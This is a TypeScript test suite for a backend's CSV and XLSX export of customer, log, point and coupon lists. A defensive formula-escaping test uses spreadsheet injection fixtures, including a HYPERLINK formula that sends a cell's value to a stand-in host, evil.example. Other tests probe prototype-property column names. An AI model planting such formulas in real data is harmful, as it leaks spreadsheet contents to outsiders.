// Streamed export of a whole list: every matching row, past any page or cap, with the
// list's filters, search and branch scope, as CSV and XLSX, with the total announced up front.
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows } from '../src/db/client';
import { customer_logs, customer_types, customers } from '../src/db/schema/customers';
import { point_ledger } from '../src/db/schema/points';
import { EXPORT_BATCH } from '../src/resources/export';
import { BRANCH_USER } from './fixtures';
import { createHarness, type Harness } from './harness';

let h: Harness;
let admin: string;
let branchUser: string;
const MANY = EXPORT_BATCH * 2 + 123;
beforeAll(async () => {
  h = await createHarness();
  admin = await h.login();
  branchUser = await h.login(BRANCH_USER);
  const { b1, b3 } = h.fixture.branches;
  // More customers than two export batches: most in b1, every seventh in b3 (outside the branch user).
  await h.database.db.execute(sql`
    insert into customers (customer_code, customer_name, phone_number, branch_id)
    select 'EXP-' || lpad(g::text, 6, '0'), 'Toko Ekspor ' || g, '0813' || lpad(g::text, 7, '0'),
           case when g % 7 = 0 then ${b3.id}::int else ${b1.id}::int end
    from generate_series(1, ${MANY}) g`);
});
afterAll(async () => {
  await h?.close();
});

async function get(token: string, url: string, lang?: string) {
  const res = await h.app.inject({
    method: 'GET',
    url: `/v1/api${url}`,
    headers: { authorization: `Bearer ${token}`, ...(lang ? { 'accept-language': lang } : {}) },
  });
  return res;
}

const csvLines = (body: string) =>
  body
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');

describe('GET /export/<resource>', () => {
  it('should stream every matching row as CSV, past the old 10,000-row page limit of the client', async () => {
    const res = await get(
      admin,
      '/export/customer?format=csv&search=Toko%20Ekspor&columns=customer_code,customer_name,branch_id&labels=Kode|Nama|Cabang',
    );
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="customer-\d{8}\.csv"/);
    expect(Number(res.headers['x-total-count'])).toBe(MANY);
    const lines = csvLines(res.body);
    expect(lines[0]).toBe('Kode,Nama,Cabang');
    expect(lines).toHaveLength(MANY + 1);
    const codes = new Set(lines.slice(1).map((l) => l.split(',')[0]));
    expect(codes.size).toBe(MANY);
    expect(codes.has('EXP-000001')).toBe(true);
    expect(codes.has(`EXP-${String(MANY).padStart(6, '0')}`)).toBe(true);
  });

  it('should apply the list filters and the caller branch scope', async () => {
    const { b3 } = h.fixture.branches;
    const onlyB3 = await get(
      admin,
      `/export/customer?search=Toko%20Ekspor&branch_id=${b3.id}&columns=customer_code`,
    );
    expect(csvLines(onlyB3.body)).toHaveLength(Math.floor(MANY / 7) + 1);
    const scoped = await get(
      branchUser,
      '/export/customer?search=Toko%20Ekspor&columns=customer_code,branch_id',
    );
    expect(scoped.statusCode).toBe(200);
    const lines = csvLines(scoped.body).slice(1);
    expect(lines).toHaveLength(MANY - Math.floor(MANY / 7));
    // The branch's name, as the list shows it, instead of its id.
    expect(lines.every((l) => l.split(',')[1] === h.fixture.branches.b1.name)).toBe(true);
    expect(Number(scoped.headers['x-total-count'])).toBe(lines.length);
  });

  it('should write a valid XLSX with the headers and every row', async () => {
    const res = await get(
      admin,
      '/export/customer?format=xlsx&search=Toko%20Ekspor&columns=customer_code,customer_name&labels=Kode|Nama',
    );
    expect(res.statusCode).toBe(200);
    const ExcelJS = ((await import('exceljs')) as unknown as { default: typeof import('exceljs') }).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const ws = wb.worksheets[0];
    expect(ws.getRow(1).values).toEqual([undefined, 'Kode', 'Nama']);
    expect(ws.rowCount).toBe(MANY + 1);
    expect(ws.getRow(2).getCell(1).value).toBe('EXP-000001');
  });

  it('should refuse an unknown column (or skip it when asked) and a call without a token', async () => {
    const bad = await get(admin, '/export/customer?columns=customer_code,password_hash');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().err_msg[0]).toMatch(/^columns: unknown column 'password_hash'/);
    const skipped = await get(
      admin,
      '/export/customer?search=Toko%20Ekspor%201&columns=customer_code,no_such_column,customer_name&labels=Kode|Tidak%20ada|Nama&unknown=skip',
    );
    expect(skipped.statusCode).toBe(200);
    expect(csvLines(skipped.body)[0]).toBe('Kode,Nama');
    const anon = await h.app.inject({ method: 'GET', url: '/v1/api/export/customer' });
    expect(anon.statusCode).toBe(401);
    const [{ n }] = await rows<{ n: number }>(h.database.db, sql`select count(*)::int as n from customers`);
    expect(n).toBeGreaterThanOrEqual(MANY);
  });
  it('should write what the list shows: names for ids, yes/no and active as words, in the request language', async () => {
    const { b1 } = h.fixture.branches;
    const url =
      '/export/customer?search=Toko%20Ekspor%201&by=customer_code&columns=customer_code,branch_id,active,show_in_app,point_balance' +
      '&labels=Kode|Cabang|Status|Tampil%20di%20aplikasi|Poin&kinds=,,active,boolean,number';
    const id = csvLines((await get(admin, url, 'id, en;q=0.5')).body);
    expect(id[0]).toBe('Kode,Cabang,Status,Tampil di aplikasi,Poin');
    expect(id.find((l) => l.startsWith('EXP-000001,'))).toBe(`EXP-000001,${b1.name},Aktif,Ya,0`);
    const en = csvLines((await get(admin, url, 'en')).body);
    expect(en.find((l) => l.startsWith('EXP-000001,'))).toBe(`EXP-000001,${b1.name},Active,Yes,0`);
    // Without labels or kinds: readable headers, and booleans still words (guessed from the value).
    const bare = csvLines(
      (await get(admin, '/export/customer?search=EXP-000001&columns=customer_code,active,show_in_app', 'id'))
        .body,
    );
    expect(bare).toEqual(['Customer code,Active,Show in app', 'EXP-000001,Aktif,Ya']);
  });

  it('should write the customer log with names instead of ids, the action named, in the request language', async () => {
    const [grosir, retail] = await h.database.db
      .insert(customer_types)
      .values([
        { code: 'EXP-GRS', name: 'Grosir Ekspor' },
        { code: 'EXP-RTL', name: 'Retail Ekspor' },
      ])
      .returning();
    const [customer] = await h.database.db
      .select({ id: customers.id })
      .from(customers)
      .where(eq(customers.customer_code, 'EXP-000003'));
    const { b1, b2 } = h.fixture.branches;
    await h.database.db.insert(customer_logs).values({
      customer_id: customer.id,
      action: 'bulk_edit',
      at: '2026-05-06T01:02:00Z',
      detail: {
        changes: {
          customer_type_id: { from: grosir.id, to: retail.id },
          branch_id: { from: b2.id, to: b1.id },
          show_in_app: { from: true, to: false },
          note: { from: '', to: 'Pindah' },
        },
      },
    });
    const url = `/export/customer_log?customer_id=${customer.id}&columns=at,customer_name,action,detail&labels=Waktu|Pelanggan|Perubahan|Yang%20diubah&kinds=datetime,,,`;
    // The changes in the order the database keeps them; the other columns as the screen shows them.
    const cells = (line: string) => {
      const m = /^([^,]*),([^,]*),([^,]*),"(.*)"$/.exec(line);
      if (!m) throw new Error(`unexpected line ${line}`);
      return { at: m[1], customer: m[2], action: m[3], changes: m[4].split('; ').sort() };
    };
    const id = csvLines((await get(admin, url, 'id')).body);
    expect(id[0]).toBe('Waktu,Pelanggan,Perubahan,Yang diubah');
    expect(cells(id[1])).toEqual({
      at: '2026-05-06 08:02',
      customer: 'Toko Ekspor 3',
      action: 'Ubah massal',
      changes: [
        `Cabang: ${b2.name} → ${b1.name}`,
        'Catatan: — → Pindah',
        'Jenis pelanggan: Grosir Ekspor → Retail Ekspor',
        'Tampil di aplikasi: Ya → Tidak',
      ],
    });
    const en = csvLines((await get(admin, url, 'en')).body);
    expect(cells(en[1])).toEqual({
      at: '2026-05-06 08:02',
      customer: 'Toko Ekspor 3',
      action: 'Bulk edit',
      changes: [
        `Branch: ${b2.name} → ${b1.name}`,
        'Customer type: Grosir Ekspor → Retail Ekspor',
        'Note: — → Pindah',
        'Shown in app: Yes → No',
      ],
    });

    // XLSX: the time is a date cell (Jakarta wall-clock time), the rest as in the CSV.
    const res = await get(
      admin,
      `${url.replace('/export/customer_log?', '/export/customer_log?format=xlsx&')}`,
      'id',
    );
    const ExcelJS = ((await import('exceljs')) as unknown as { default: typeof import('exceljs') }).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const row = wb.worksheets[0].getRow(2);
    expect(row.getCell(1).value).toBeInstanceOf(Date);
    expect((row.getCell(1).value as Date).toISOString()).toBe('2026-05-06T08:02:00.000Z');
    expect(row.getCell(1).numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(row.getCell(3).value).toBe('Ubah massal');
    expect(String(row.getCell(4).value)).toContain('Jenis pelanggan: Grosir Ekspor → Retail Ekspor');
    // A date-only view of the same time, and the same log without kinds: still a date and time.
    const asDate = csvLines(
      (await get(admin, `/export/customer_log?customer_id=${customer.id}&columns=at&kinds=date`)).body,
    );
    expect(asDate[1]).toBe('2026-05-06');
    const guessed = csvLines(
      (await get(admin, `/export/customer_log?customer_id=${customer.id}&columns=at`)).body,
    );
    expect(guessed).toEqual(['At', '2026-05-06 08:02']);
  });

  it('should refuse columns that are no column of the list, even ones every object has', async () => {
    for (const name of ['staff_user', 'customer']) {
      const res = await get(admin, `/export/${name}?columns=constructor,toString,__proto__`);
      expect(res.statusCode).toBe(400);
      expect(res.json().err_msg[0]).toBe("columns: unknown column 'constructor', 'toString', '__proto__'");
    }
    const skipped = await get(
      admin,
      '/export/customer?search=EXP-000001&columns=customer_code,hasOwnProperty,valueOf&unknown=skip',
    );
    expect(csvLines(skipped.body)).toEqual(['Customer code', 'EXP-000001']);
  });

  it('should write text that a spreadsheet would run as a formula as text, and numbers as numbers', async () => {
    const { b1 } = h.fixture.branches;
    const names = [
      '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")',
      '+62 813 Toko',
      '-5 Toko Minus',
      '@SUM(A1:A9)',
      '\tToko Tab',
      '\rToko CR',
    ];
    const stores = await h.database.db
      .insert(customers)
      .values(names.map((n, i) => ({ customer_code: `FORMULA-${i}`, customer_name: n, branch_id: b1.id })))
      .returning({ id: customers.id });
    // A credit first: a debit draws the store's open point lots.
    await h.database.db
      .insert(point_ledger)
      .values({ customer_id: stores[2].id, point_type: 2, points: 10, reason: 'injeksi', source: 'inject' });
    await h.database.db.insert(point_ledger).values({
      customer_id: stores[2].id,
      point_type: 5,
      points: -5,
      reason: '-5 koreksi',
      source: 'deduction',
    });
    const lines = csvLines(
      (
        await get(
          admin,
          '/export/customer?search=FORMULA-&by=customer_code&columns=customer_code,customer_name',
        )
      ).body,
    );
    expect(lines.slice(1)).toEqual([
      `FORMULA-0,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")"`,
      `FORMULA-1,"'+62 813 Toko"`,
      `FORMULA-2,"'-5 Toko Minus"`,
      `FORMULA-3,"'@SUM(A1:A9)"`,
      `FORMULA-4,"'\tToko Tab"`,
      `FORMULA-5,"'\rToko CR"`,
    ]);
    // A negative number stays a number (the column is a number), the text beside it does not run.
    const ledger = csvLines(
      (
        await get(
          admin,
          `/export/point?customer_id=${stores[2].id}&point_type=5&columns=customer_name,points,reason,balance_after&kinds=,number,,`,
        )
      ).body,
    );
    expect(ledger.slice(1)).toEqual([`"'-5 Toko Minus",-5,"'-5 koreksi",`]);
    const guessed = csvLines(
      (await get(admin, `/export/point?customer_id=${stores[2].id}&point_type=5&columns=points,reason`)).body,
    );
    expect(guessed.slice(1)).toEqual([`-5,"'-5 koreksi"`]);

    // XLSX: the same cells are typed text, written as they are (no quote), never formulas.
    const res = await get(
      admin,
      '/export/customer?format=xlsx&search=FORMULA-&by=customer_code&columns=customer_code,customer_name',
    );
    const ExcelJS = ((await import('exceljs')) as unknown as { default: typeof import('exceljs') }).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const ws = wb.worksheets[0];
    const cells = [2, 3, 4, 5, 6, 7].map((r) => ws.getRow(r).getCell(2));
    expect(cells.map((c) => c.type)).toEqual(names.map(() => ExcelJS.ValueType.String));
    // XML reads a lone CR back as a line feed: still the text of the cell.
    expect(cells.map((c) => c.value)).toEqual(names.map((n) => n.replace('\r', '\n')));
  });
});

describe('exports write the columns the screens compute', () => {
  it("should write the customer list's flags in the request language", async () => {
    const { b1 } = h.fixture.branches;
    await h.database.db.insert(customers).values({
      customer_code: 'FLAG-1',
      customer_name: 'Toko Bertanda',
      branch_id: b1.id,
      active: false,
      show_in_app: false,
      admin_validate: true,
      is_data_complete: true,
    });
    const url = '/export/customer?search=FLAG-1&columns=customer_code,flags&labels=Kode|Tanda';
    expect(csvLines((await get(admin, url, 'id')).body)).toEqual([
      'Kode,Tanda',
      'FLAG-1,"Nonaktif, Tak tampil di aplikasi"',
    ]);
    expect(csvLines((await get(admin, url, 'en')).body)[1]).toBe('FLAG-1,"Inactive, Hidden in app"');
  });

  it("should write the ledger's point types by name and its status column", async () => {
    const { b1 } = h.fixture.branches;
    const [store] = await h.database.db
      .insert(customers)
      .values({ customer_code: 'LEDGER-1', customer_name: 'Toko Buku Besar', branch_id: b1.id })
      .returning({ id: customers.id });
    // A credit first: a debit draws the store's open point lots.
    await h.database.db
      .insert(point_ledger)
      .values({ customer_id: store.id, point_type: 2, points: 50, reason: 'injeksi', source: 'inject' });
    await h.database.db
      .insert(point_ledger)
      .values({ customer_id: store.id, point_type: 5, points: -5, reason: 'potongan', source: 'deduction' });
    const url = `/export/point?customer_id=${store.id}&columns=point_type,points,status&kinds=,number,`;
    const lines = csvLines((await get(admin, url, 'id')).body)
      .slice(1)
      .sort();
    expect(lines).toEqual(['Injeksi poin,50,Staf', 'Pengurangan poin,-5,Staf']);
  });
});

describe('coupon export', () => {
  it('should write an active coupon past its end date as ended, as the list shows it', async () => {
    await h.database.db.execute(sql`
      insert into coupons (name, points_required, stock, start_date, end_date, active) values
        ('KUPON-LALU', 10, 5, '2020-01-01', '2020-12-31', true),
        ('KUPON-NANTI', 10, 5, '2099-01-01', '2099-12-31', true),
        ('KUPON-MATI', 10, 5, '2020-01-01', '2099-12-31', false),
        ('KUPON-JALAN', 10, 5, '2020-01-01', '2099-12-31', true)`);
    const lines = csvLines(
      (await get(admin, '/export/coupon?search=KUPON-&columns=name,active&labels=Nama|Status', 'id')).body,
    );
    expect(lines.slice(1).sort()).toEqual([
      'KUPON-JALAN,Aktif',
      'KUPON-LALU,Berakhir',
      'KUPON-MATI,Nonaktif',
      'KUPON-NANTI,Belum mulai',
    ]);
  });
});

describe('GET /export/<report>: the reports export every row, in the list order', () => {
  it('should export the points tracking report as its list pages show it, past one batch', async () => {
    // One ledger row per export customer: more report rows than one export batch.
    await h.database.db.execute(sql`
      insert into point_ledger (customer_id, point_type, points, reason, source, entry_date)
      select id, 2, 10, 'ekspor', 'inject', '2025-06-10' from customers where customer_code like 'EXP-%'`);
    const filters = 'start_date=2025-06-01&end_date=2025-06-30&point_type=2';
    const list = await h.call(
      admin,
      'GET',
      `/point/report?${filters}&page=1&limit=5&by=customer_name&sort=asc`,
    );
    expect(list.status).toBe(200);
    const res = await get(
      admin,
      `/export/point_report?${filters}&by=customer_name&sort=asc&columns=customer_code,customer_name,point_type,points&labels=Kode|Nama|Jenis|Poin`,
      'id',
    );
    expect(res.statusCode).toBe(200);
    const lines = csvLines(res.body);
    expect(lines[0]).toBe('Kode,Nama,Jenis,Poin');
    expect(lines.length - 1).toBeGreaterThan(EXPORT_BATCH);
    expect(lines.length - 1).toBe(list.body.meta.total_data);
    // The file's first rows are the list's first page, in the same order, with the type named.
    expect(lines.slice(1, 6)).toEqual(
      list.body.data.map(
        (r: { customer_code: string; customer_name: string; points: number }) =>
          `${r.customer_code},${r.customer_name},Injeksi poin,${r.points}`,
      ),
    );
    // The branch user's file holds only its branch's stores.
    const scoped = csvLines(
      (await get(branchUser, `/export/point_report?${filters}&columns=customer_code,branch_id`)).body,
    );
    expect(scoped.slice(1).every((l) => l.endsWith(`,${h.fixture.branches.b1.name}`))).toBe(true);
  });

  it('should export the customer balances and the store points reports', async () => {
    for (const name of ['point_customer_balance', 'point_store_report']) {
      const res = await get(admin, `/export/${name}?start_date=2025-06-01&end_date=2025-06-30&format=xlsx`);
      expect(res.statusCode, name).toBe(200);
      expect(res.headers['content-type']).toMatch(/spreadsheetml/);
    }
  });
});
